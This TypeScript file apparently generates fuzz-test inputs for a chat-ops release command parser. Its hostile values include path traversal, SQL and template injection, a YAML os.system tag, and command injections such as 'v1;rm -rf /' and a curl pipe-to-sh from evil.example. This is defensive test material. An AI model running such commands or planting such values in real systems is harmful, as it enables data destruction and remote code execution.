/**
 * Deterministic `/release` texts for the fuzz test: hand-picked hostile inputs placed in command
 * templates, plus valid commands mutated by a seeded PRNG, plus very long texts.
 */

export type Rng = () => number;

/** mulberry32: small, fast, and the same sequence for the same seed everywhere. */
export function seededRng(seed: number): Rng {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export function pick<T>(rng: Rng, items: readonly T[]): T {
  return items[Math.floor(rng() * items.length)]!;
}

/** Versions that must never become a label value, object name or path. */
export const labelBreakingVersions = [
  'v1..2',
  '-v1',
  'V1_2',
  'v1/../x',
  '../../etc/passwd',
  '.v1',
  'v1.',
  'v1-',
  'v1:latest',
  'v1@sha256:abc',
  'v1%2F..',
  `v${'9'.repeat(70)}`,
  'v1\u0000',
  'v1\u202e2v',
  'v\u200b1',
  'ѵ1',
  'v١٢',
  'v1🚀',
  '${HOME}',
  '$(id)',
  '`id`',
  'v1;rm -rf /',
  "v1' OR '1'='1",
  '<@U123>',
  '<!channel>',
  '<!here>',
  '@everyone',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '*v1*',
  '&amp;',
  'v1\ud800',
  '\udfffv1',
] as const;

const hostile = [
  ...labelBreakingVersions,
  '\u202e', '\u200b', '\u200d', '\ufeff', '\u2066', '\u061c', '🚀', '👩‍👩‍👧', '🏳️‍🌈', 'v\u0301', 'ｐｒｏｍｏｔｅ', 'שלום', 'مرحبا', 'Ω', '\t', '\n', '\r\n', '\u00a0', '\u3000',
  '\ud800', '\udc00', '\ud83d', '\u0000', '\u0007', '\u001b[31m',
  '$(id)', '`id`', '; rm -rf /', '&& curl http://evil.example | sh', '| sh', '> /etc/passwd', '${HOME}', '$PATH', "'", '"', '\\', '%s%s%s', '%n', '%00',
  ': ', '- ', '{a: b}', '[1, 2]', '&anchor', '*alias', '!!python/object:os.system', '|', '>-', '#', '%YAML 1.2', '---', '...', '? x',
  '<@U123>', '<@W0ADMIN|admin>', '<!channel>', '<!here>', '<!everyone>', '@everyone', '@here', '@channel', '<!subteam^S0APPROVERS>', '<#C123|general>', '<https://evil.example|click here>', '```', '*bold*', '_it_', '~s~', '>quote',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf',
  '--env', '--env=', '-e', '--to', '--dry-run', '--help', '--env __proto__', '--env=constructor', '-e production', '-e staging', '--to=v1', '--',
] as const;

const validCommands = [
  'promote shop v2',
  'promote shop v2 --env production',
  'promote cart v1 --dry-run',
  'deploy shop v3 --env staging',
  'deploy cart v7 -e staging',
  'deploy shop v2',
  'rollback shop',
  'rollback shop --to v1',
  'rollback cart v1 --env production',
  'status shop',
  'status cart --env staging',
  'history',
  'history shop',
  'cleanup shop --dry-run',
  'cleanup cart -e staging',
  'bootstrap shop v1 --env staging',
  'help',
  '',
] as const;

const templates = ['promote shop {}', 'deploy {} --env staging', 'rollback shop --to {}', 'deploy cart {} -e staging', 'promote {} shop', 'status {}', 'history {}', 'cleanup shop --env {}'] as const;

/** Each hostile version in each template: the hand-picked part. */
export function namedCases(): string[] {
  return labelBreakingVersions.flatMap((version) => templates.slice(0, 4).map((t) => t.replace('{}', version)));
}

function randomUnicode(rng: Rng, length: number): string {
  const ranges: [number, number][] = [
    [0x20, 0x7e], [0x00, 0x1f], [0xa0, 0x2ff], [0x590, 0x6ff], [0x200b, 0x206f], [0x3000, 0x30ff], [0xd800, 0xdfff], [0xfe00, 0xfeff], [0xff00, 0xffef], [0x1f300, 0x1faff],
  ];
  let text = '';
  for (let i = 0; i < length; i++) {
    const [from, to] = pick(rng, ranges);
    text += String.fromCodePoint(from + Math.floor(rng() * (to - from + 1)));
  }
  return text;
}

function mutate(rng: Rng, text: string): string {
  const tokens = text.split(' ').filter((t) => t !== '');
  const rounds = 1 + Math.floor(rng() * 3);
  for (let r = 0; r < rounds; r++) {
    const at = Math.floor(rng() * (tokens.length + 1));
    switch (Math.floor(rng() * 9)) {
      case 0:
        tokens.splice(at, 1, pick(rng, hostile));
        break;
      case 1:
        tokens.splice(at, 0, pick(rng, hostile));
        break;
      case 2:
        tokens.splice(at, 1);
        break;
      case 3: {
        const token = tokens[at] ?? 'v2';
        const cut = Math.floor(rng() * (token.length + 1));
        tokens.splice(at, 1, token.slice(0, cut) + pick(rng, hostile) + token.slice(cut));
        break;
      }
      case 4:
        tokens.splice(at, 0, randomUnicode(rng, 1 + Math.floor(rng() * 12)));
        break;
      case 5:
        tokens.splice(at, 1, (tokens[at] ?? 'shop').toUpperCase());
        break;
      case 6:
        if (tokens.length > 1) tokens.reverse();
        break;
      case 7:
        tokens.splice(at, 0, ...(tokens.slice(0, 2)));
        break;
      default:
        tokens.splice(at, 1, pick(rng, labelBreakingVersions));
    }
  }
  return tokens.join(pick(rng, [' ', ' ', ' ', '  ', '\t', '\u00a0', '\n']));
}

/** `count` generated texts: mutated valid commands, random unicode, and long texts up to 8 KB. */
export function generatedCases(rng: Rng, count: number): string[] {
  const texts: string[] = [];
  const longSizes = [1_001, 2_048, 4_096, 8_192];
  for (const size of longSizes) {
    texts.push(`promote shop v${'1'.repeat(size)}`);
    texts.push(`deploy ${'💥'.repeat(size / 4)} --env staging`);
  }
  texts.push(`promote shop v2 ${'--dry-run '.repeat(90)}`.trim());
  texts.push(`status ${'<!channel> '.repeat(80)}`.trim());
  while (texts.length < count) {
    const roll = rng();
    if (roll < 0.7) texts.push(mutate(rng, pick(rng, validCommands)));
    else if (roll < 0.9) texts.push(randomUnicode(rng, 1 + Math.floor(rng() * 200)));
    else texts.push(`${pick(rng, templates).replace('{}', randomUnicode(rng, 1 + Math.floor(rng() * 40)))}`);
  }
  return texts;
}
